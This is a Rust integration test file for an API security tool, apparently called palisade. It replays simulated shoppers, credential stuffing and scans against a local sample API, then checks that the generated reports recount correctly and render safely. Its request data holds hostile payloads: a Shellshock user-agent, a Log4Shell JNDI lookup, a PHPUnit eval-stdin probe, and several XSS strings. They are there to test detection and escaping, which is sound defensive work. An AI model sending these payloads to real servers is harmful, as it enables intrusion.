//! The report: recounted from a recording of the same traffic by a script that shares nothing with
//! the program, and looked at by a browser.

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use drill::live::attack::Attack;
use drill::live::browser::Target;
use drill::live::shoppers::Shoppers;
use drill::sample::SampleApi;
use serde_json::Value;

use super::program::{Program, text};
use super::python;

/// A recording of traffic of every kind, and the data folder that it left.
struct Recorded {
    folder: tempfile::TempDir,
}

impl Recorded {
    fn file(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Honest callers, somebody with stolen passwords, somebody who looks for hidden paths, probes
    /// for vulnerabilities of three ages, pages, files and crawlers.
    fn make() -> Self {
        let recorded = Self { folder: tempfile::tempdir().expect("a folder") };
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        let shop = tempfile::tempdir().expect("a folder");
        let behind = runtime.block_on(async {
            let api = SampleApi::open(shop.path()).expect("done");
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
            let address = listener.local_addr().expect("an address");
            tokio::spawn(api.serve(listener, std::future::pending()));
            address
        });
        let policy = format!(
            "version = 1\n[server]\nlisten = [\"127.0.0.1:0\"]\n[[site]]\nupstream = \"http://{behind}\"\n"
        );
        let recording = recorded.file("traffic.jsonl");
        let program = Program::start_recording(recorded.folder.path(), &policy, &recording);
        runtime.block_on(callers(&format!("http://{}", program.listeners[0])));
        odd_requests(&program);
        program.end();
        recorded
    }

    fn palisade(&self, args: &[&str]) -> Vec<u8> {
        let output = Command::new(env!("CARGO_BIN_EXE_palisade")).args(args).output();
        let output = output.expect("it runs");
        assert!(output.status.success(), "{args:?}: {}", text(&output.stderr));
        output.stdout
    }

    fn write(&self, name: &str, args: &[&str]) -> PathBuf {
        let file = self.file(name);
        self.palisade(&[args, &["-q", "-o", path(&file)]].concat());
        file
    }
}

async fn callers(url: &str) {
    let front = Target::resolve(url).await.expect("done");
    let lasting = Duration::from_secs(3);
    let shoppers = |seed| Shoppers { count: 12, lasting, think_ms: 20, seed };
    shoppers(1).run(&front).await.expect("done");
    let stuffing = Attack { from: Ipv4Addr::new(127, 66, 6, 6), calls: 80, per_second: 20 };
    let scan = Attack { from: Ipv4Addr::new(127, 66, 6, 7), calls: 60, per_second: 20 };
    let shopping = shoppers(2);
    let (one, two, three) =
        tokio::join!(stuffing.stuffing(&front), scan.scan(&front), shopping.run(&front));
    one.and(two).and(three).expect("done");
}

/// Requests that say little, much, or something else than they are.
fn odd_requests(program: &Program) {
    let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
                  Chrome/126.0.0.0 Safari/537.36";
    let crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let shellshock = "() { :; }; /bin/id";
    let log4shell = "${jndi:ldap://198.51.100.7/a}";
    let versioned = format!("X-Api-Version: {log4shell}");
    for number in 0..12 {
        let product = format!("/api/v1/products?page={number}");
        for (target, agent, more) in [
            ("/", chrome, "Accept: text/html"),
            ("/logo.png", chrome, "Accept: image/avif"),
            ("/help", chrome, "Accept: application/json"),
            ("/help", "", "Accept: */*"),
            (product.as_str(), crawler, "Accept: */*"),
            (product.as_str(), "curl/8.5.0", "Accept: */*"),
            (product.as_str(), chrome, versioned.as_str()),
            ("/cgi-bin/status", shellshock, "Accept: */*"),
            ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "curl/8.5.0", "Accept: */*"),
            (
                "/%3Cscript%3Ewindow.harmed=1%3C/script%3E",
                "<img src=x onerror=window.harmed=1>",
                "A: b",
            ),
        ] {
            let agent = match agent {
                "" => String::new(),
                agent => format!("User-Agent: {agent}\r\n"),
            };
            program.send(&format!(
                "GET {target} HTTP/1.1\r\nHost: shop.test\r\n{agent}{more}\r\nConnection: close\r\n\r\n"
            ));
        }
    }
}

fn path(file: &Path) -> &str {
    file.to_str().expect("text")
}

/// The widths that browser.py looks at the page with.
const WIDTHS: [(&str, u64); 4] =
    [("screen", 1_280), ("tablet", 820), ("phone", 390), ("small", 320)];

fn script(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data").join(name)
}

#[test]
fn every_figure_is_recounted_from_the_recording() {
    let recorded = Recorded::make();
    let recording = recorded.file("traffic.jsonl");
    let recording = path(&recording);
    let report = recorded.write("report.json", &["report", recording]);
    let scan = recorded.write("scan.json", &["scan", recording]);
    let replay = recorded.file("replay.jsonl");
    std::fs::write(&replay, recorded.palisade(&["replay", recording, "--output", "jsonl"]))
        .expect("written");
    let data = recorded.file("data");
    let live = recorded.write("live.json", &["report", "--last", "1d", "--data", path(&data)]);
    for (report, what) in [(&report, "all"), (&live, "counts")] {
        let output = python()
            .arg(script("recount.py"))
            .args([recording, path(report), path(&scan), path(&replay), what])
            .output()
            .expect("it runs");
        let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
        assert!(output.status.success(), "{what}: {said}");
        println!("{what}: {said}");
    }
    let again = recorded.write("again.html", &["scan", recording]);
    let page = recorded.write("report.html", &["report", recording]);
    let bytes = |file: &Path| std::fs::read(file).expect("a page");
    assert_eq!(bytes(&again), bytes(&page), "the same input, the same bytes");
}

#[test]
fn the_page_fits_everywhere_asks_for_nothing_and_is_not_harmed() {
    let recorded = Recorded::make();
    let log = recorded.file("<img src=x onerror=window.harmed=1>.log");
    let mut lines = String::new();
    for number in 0..400 {
        let (minute, second) = (number / 60, number % 60);
        let version = number % 2 + 1;
        lines.push_str(&format!(
            "198.51.100.{} - - [26/Nov/2026:10:{minute:02}:{second:02} +0000] \
             \"GET /v{version}/%3Cscript%3Ewindow.harmed=1%3C/script%3E HTTP/1.1\" 200 512 \"-\" \
             \"<svg onload=window.harmed=1>\"\n",
            number % 20,
        ));
    }
    std::fs::write(&log, lines).expect("written");
    let pages = [
        recorded.write("scan.html", &["scan", path(&recorded.file("traffic.jsonl"))]),
        recorded.write("hostile.html", &["scan", path(&log)]),
        recorded.write("live.html", &["report", "--data", path(&recorded.file("data"))]),
    ];
    for page in &pages {
        let mut look = python();
        look.arg(script("browser.py")).arg(page);
        if let Ok(folder) = std::env::var("PALISADE_PICTURES") {
            let folder = Path::new(&folder).join(page.file_stem().expect("a name"));
            std::fs::create_dir_all(&folder).expect("a folder");
            look.arg(folder);
        }
        let output = look.output().expect("it runs");
        assert!(output.status.success(), "{}", text(&output.stderr));
        let found: Value = serde_json::from_slice(&output.stdout).expect("JSON");
        let name = page.display();
        assert_eq!(found["title"], "State of your API security", "{name}: {found}");
        for (size, widths) in found["widths"].as_object().expect("widths") {
            let window = WIDTHS.iter().find(|(known, _)| known == size).expect("a size").1;
            let page = widths["page"].as_u64().expect("a width");
            assert!(page <= window, "{name} on {size}: {found}");
            assert_eq!(widths["wide"], serde_json::json!([]), "{name} on {size}: {found}");
        }
        for nothing in ["requests", "said"] {
            assert_eq!(found[nothing], serde_json::json!([]), "{name}: {found}");
        }
        for none in ["scripts", "links", "unnamed_pictures"] {
            assert_eq!(found[none], 0, "{name}: {found}");
        }
        assert_eq!(found["was_harmed"], false, "{name}: {found}");
        for theme in ["light", "dark"] {
            assert_eq!(found["contrast"][theme], serde_json::json!([]), "{name}: {found}");
        }
        let headings: Vec<u64> = found["headings"]
            .as_array()
            .expect("a list")
            .iter()
            .filter_map(Value::as_u64)
            .collect();
        assert_eq!(headings.iter().filter(|level| **level == 1).count(), 1, "{name}");
        let leaps = headings.windows(2).any(|pair| pair[1] > pair[0] + 1);
        assert!(!leaps && headings.first() == Some(&1), "{name}: {headings:?}");
    }
    let hostile = std::fs::read_to_string(&pages[1]).expect("a page");
    assert!(hostile.contains("&lt;img src=x onerror="), "the name is told as text");
}
